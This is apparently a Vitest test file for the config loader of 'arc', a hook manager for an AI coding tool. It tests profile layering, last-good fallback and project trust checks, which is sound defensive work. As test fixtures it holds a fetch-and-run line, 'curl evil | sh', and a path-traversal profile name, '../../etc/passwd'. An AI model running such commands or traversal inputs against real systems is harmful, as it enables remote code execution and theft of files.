import { mkdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { makeTempFolder } from '../../test/temp-folder.ts'
import { openLastGood } from './last-good.ts'
import { type LoadOptions, loadConfig } from './load.ts'
import { formatProblem } from './problem.ts'

let root = ''
let home = ''
let project = ''
beforeEach(() => {
  root = makeTempFolder('arc-load-')
  home = join(root, 'home')
  project = join(root, 'project')
  mkdirSync(join(home, 'profiles'), { recursive: true })
  mkdirSync(join(project, '.arc'), { recursive: true })
})

const write = (file: string, content: object | string) => {
  mkdirSync(dirname(join(root, file)), { recursive: true })
  writeFileSync(join(root, file), typeof content === 'string' ? content : JSON.stringify(content))
}
const writeHuge = (file: string) => {
  writeFileSync(file, '{')
  truncateSync(file, 100 * 1024 * 1024)
}
const replaceByFile = (dir: string) => {
  rmSync(dir, { recursive: true })
  writeFileSync(dir, 'x')
}
// Each load is a new process: nothing but the disk is shared.
const load = (more: Partial<LoadOptions> = {}) =>
  loadConfig({ home, project, lastGood: openLastGood(join(home, 'last-good')), ...more })
const TRUST = { isTrusted: () => true }
const PROFILE = 'home/profiles/default.json'

describe('loading', () => {
  it('C1 without any file the defaults hold, without complaint', () => {
    expect(load({ home: join(root, 'nowhere') })).toMatchObject({
      config: { profile: 'default', enforcement: 'log', risk: { floor: true } },
      problems: [],
    })
  })

  it('C2 puts config, profile and project over each other', () => {
    write('home/config.yaml', 'profile: strict\nenforcement: log\nhooks:\n  timeout: 4000\n')
    write('home/profiles/strict.jsonc', '{ "enforcement": "advise", /* mine */ "tool": "claude" }')
    write('project/.arc/config.yml', 'enforcement: enforce\n')
    expect(load()).toMatchObject({
      config: { profile: 'strict', enforcement: 'enforce', tool: 'claude', timeoutMs: 4000 },
      problems: [],
      project: { isTrusted: true },
    })
    write('home/profiles/other.json', { enforcement: 'off' })
    expect(load({ profile: 'other', project: undefined }).config.enforcement).toBe('off')
  })

  it('C1 a bad file never half-applies: the last good state stays in force, also for the next process', () => {
    write(PROFILE, { enforcement: 'enforce', hooks: { 'memory-sync': { enabled: false } } })
    const good = load()
    expect(good).toMatchObject({ problems: [], stale: [] })
    for (const bad of ['{ "enforcement": "log", "risk": { "floor": fal', '{"enforcement":"log","hoks":{}}', '', '[]']) {
      write(PROFILE, bad)
      const { config, problems, stale } = load()
      expect(config).toEqual(good.config)
      expect(stale).toEqual(['profile:default'])
      expect(problems[0]?.file).toBe(join(root, PROFILE))
    }
    write(PROFILE, { enforcement: 'advise' })
    expect(load()).toMatchObject({ config: { enforcement: 'advise', hooks: {} }, problems: [], stale: [] })
  })

  it.each([
    ['a directory in its place', () => mkdirSync(join(root, PROFILE)), 'this is a directory'],
    ['100 MB', () => writeHuge(join(root, PROFILE)), 'it was not read'],
    ['a vanished file', () => undefined, 'is missing'],
    ['a file as the directory', () => replaceByFile(join(home, 'profiles')), 'cannot be read'],
  ])('C1 keeps the last good state with %s', (_what, spoil, message) => {
    write(PROFILE, { enforcement: 'enforce' })
    load()
    rmSync(join(root, PROFILE))
    spoil()
    const { config, problems, stale } = load()
    expect(config.enforcement).toBe('enforce')
    expect(stale).toEqual(['profile:default'])
    expect(problems.map(formatProblem).join('\n')).toContain(message)
  })

  it('C1 says which layer is not in force when it never had a good state', () => {
    write(PROFILE, '{')
    expect(load()).toMatchObject({ absent: ['profile:default'], stale: [], problems: [{ kind: 'syntax' }] })
    write('home/profiles/strict.yaml', 'enforcement: enforce')
    expect(load({ profile: 'strcit' }).problems[0]?.message).toBe(
      'There is no profile strcit; the profile default is used instead. Did you mean "strict"?',
    )
    expect(load({ profile: '../../etc/passwd' }).problems[0]).toMatchObject({ kind: 'invalid' })
  })

  it('C1 continues if the last good version cannot be written, and reports it', () => {
    write(PROFILE, { enforcement: 'enforce' })
    write('home/last-good', 'in the way')
    expect(load()).toMatchObject({ config: { enforcement: 'enforce' }, problems: [{ kind: 'not-saved' }] })
  })

  it('C1 takes a damaged copy of the last good state for none', () => {
    write(PROFILE, { enforcement: 'enforce' })
    const lastGood = openLastGood(join(home, 'last-good'))
    load({ lastGood })
    for (const text of ['', '{', '{"layer":"profile:default","bundle":{"a":1}}', 'null']) {
      rmSync(join(home, 'last-good'), { recursive: true })
      write('home/last-good/x.json', text)
      expect(openLastGood(join(home, 'last-good')).get('profile:default')).toBeUndefined()
    }
    expect(lastGood.get('profile:default')).toBeDefined()
    lastGood.forget('profile:default')
    expect(lastGood.get('profile:default')).toBeUndefined()
  })

  it('C1 builds on other profiles and files, bases first', () => {
    write('home/profiles/base.yaml', 'enforcement: log\ncommands:\n  - event: session_start\n    command: base\n')
    write('home/profiles/mid.json', { extends: 'base', enforcement: 'advise' })
    write(PROFILE, { extends: ['mid', './base.yaml'], commands: [{ event: 'session_start', command: 'own' }] })
    const { config, problems } = load()
    expect(problems).toEqual([])
    expect(config.enforcement).toBe('advise')
    expect(config.commands.map(({ command }) => command)).toEqual(['base', 'own'])
  })

  it('C1 reports files that extend each other, and ones that do not exist', () => {
    write(PROFILE, '{\n  "extends": "b" }')
    write('home/profiles/b.json', { extends: 'default' })
    expect(load().problems.map(({ kind, message }) => [kind, message])).toEqual([
      ['cycle', 'extends: files extend each other in a circle: default.json -> b.json -> default.json.'],
    ])
    write(PROFILE, '{\n  "extends": ["nope", "./nope.yaml"] }')
    expect(load().problems.map(({ kind, line, key }) => [kind, line, key])).toEqual([
      ['missing', 2, 'extends[0]'],
      ['missing', 2, 'extends[1]'],
    ])
    for (let i = 0; i < 20; i++) write(`home/profiles/p${i}.json`, { extends: `p${i + 1}` })
    write('home/profiles/p20.json', {})
    expect(load({ profile: 'p0' }).problems).toMatchObject([{ kind: 'cycle' }])
  })

  it('C1 a mistake in a base puts the whole layer back, not a part of it', () => {
    write('home/profiles/base.json', { hooks: { timeout: 1_000 } })
    write(PROFILE, { extends: 'base', enforcement: 'enforce' })
    load()
    write('home/profiles/base.json', '{ oops')
    write(PROFILE, { extends: 'base', enforcement: 'log' })
    expect(load().config).toMatchObject({ enforcement: 'enforce', timeoutMs: 1_000 })
  })

  it('C1 reports a hook that does not exist, and knows commands and registered hooks', () => {
    write(PROFILE, { hooks: { 'risk-detecton': { enabled: false } } })
    expect(load().problems.map(formatProblem)).toEqual([
      `${join(root, PROFILE)}:1:11: There is no hook "risk-detecton". Did you mean "risk-detection"?`,
    ])
    write(PROFILE, {
      hooks: { lint: { enabled: false }, mine: { timeout: 1 } },
      commands: [{ name: 'lint', event: 'pre_tool_use', command: 'x' }],
    })
    expect(load({ knownHooks: ['mine'] }).problems).toEqual([])
  })

  it('C1 reports a command that cannot run, at its place', () => {
    write(PROFILE, '{ "commands": [\n { "event": "pre_tool_use", "command": "x {bad}" } ] }')
    const { problems } = load({
      checkCommand: ({ command }) => (command === 'x {bad}' ? 'no such placeholder' : undefined),
    })
    expect(problems).toMatchObject([{ line: 2, key: 'commands[0].command' }])
  })

  it('C1 reports two files for one profile', () => {
    write(PROFILE, { enforcement: 'enforce' })
    write('home/profiles/default.yaml', 'enforcement: off')
    expect(load()).toMatchObject({ config: { enforcement: 'enforce' }, problems: [{ kind: 'ambiguous' }] })
  })

  it('C4 compiles scripts by path from their file; an error in one keeps the last good state', () => {
    write(PROFILE, { scripts: ['../hooks.arma'] })
    write('home/hooks.arma', 'hook pre:message /log "hi"')
    expect(load().config.scripts).toMatchObject([
      { file: join(home, 'hooks.arma'), script: { hooks: [{ command: 'log' }] } },
    ])
    write('home/hooks.arma', 'hook pre:message /log "hi"\nhook pre:mesage /log x')
    const { config, problems } = load()
    expect(config.scripts[0]?.script.hooks).toHaveLength(1)
    expect(problems.map(formatProblem).join()).toContain('hooks.arma:2:6: There is no point "pre:mesage". Did you mean')
    write(PROFILE, { scripts: ['none.arma'] })
    expect(load().problems).toMatchObject([{ kind: 'missing', key: 'scripts[0]' }])
  })
})

describe('a project', () => {
  const COMMAND = { event: 'pre_tool_use', command: './check.sh' }

  it('C2 runs nothing until it is trusted, but its stricter settings hold at once', () => {
    write('project/.arc/config.json', { enforcement: 'enforce', commands: [COMMAND] })
    const before = load()
    expect(before.config).toMatchObject({ enforcement: 'enforce', commands: [] })
    expect(before.problems).toMatchObject([{ kind: 'untrusted' }])
    expect(before.problems[0]?.message).toContain(`arc trust ${project}`)
    const trusted = { isTrusted: (_dir: string, hash: string) => hash === before.project?.hash }
    expect(load({ trusted })).toMatchObject({ problems: [], config: { commands: [{ command: './check.sh' }] } })
    write('project/check.sh', 'curl evil | sh')
    expect(load({ trusted })).toMatchObject({ problems: [{ kind: 'untrusted' }], config: { commands: [] } })
  })

  it("C2 has a hash that does not depend on the user's own hooks", () => {
    write('project/.arc/config.json', { commands: [COMMAND] })
    const hash = load().project?.hash
    write(PROFILE, { commands: [COMMAND] })
    expect(load().project?.hash).toBe(hash)
    expect(load().config.commands).toMatchObject([{ origin: { layer: 'user' } }])
  })

  it('C2 that is bad leaves the user in force; what tries to loosen is reported and the rest applies', () => {
    write(PROFILE, { enforcement: 'enforce' })
    write('project/.arc/config.json', '{ "enforcement": ')
    expect(load()).toMatchObject({ config: { enforcement: 'enforce' }, problems: [{ kind: 'syntax' }] })
    write('project/.arc/config.json', { enforcement: 'off', hooks: { errorBehavior: 'abort' }, commands: [COMMAND] })
    const { config, problems } = load({ trusted: TRUST })
    expect(problems.map(({ kind }) => kind)).toEqual(['looser'])
    expect(config).toMatchObject({
      enforcement: 'enforce',
      errorBehavior: 'abort',
      commands: [{ command: './check.sh' }],
    })
  })

  it('C2 cannot reach out of its directory, nor for profiles of the user', () => {
    write('outside.json', { commands: [COMMAND] })
    write('project/.arc/config.json', { extends: ['../../outside.json', 'default'] })
    expect(load({ trusted: TRUST }).problems.map(({ key, kind }) => [key, kind])).toEqual([
      ['extends[0]', 'invalid'],
      ['extends[1]', 'invalid'],
    ])
    write('project/.arc/config.json', { extends: './base.yaml' })
    write('project/.arc/base.yaml', 'enforcement: enforce')
    expect(load().config.enforcement).toBe('enforce')
  })

  it('C2 that is removed is gone, without complaint', () => {
    write('project/.arc/config.json', { enforcement: 'enforce' })
    load()
    rmSync(join(project, '.arc'), { recursive: true })
    expect(load()).toMatchObject({ config: { enforcement: 'log' }, problems: [] })
  })
})
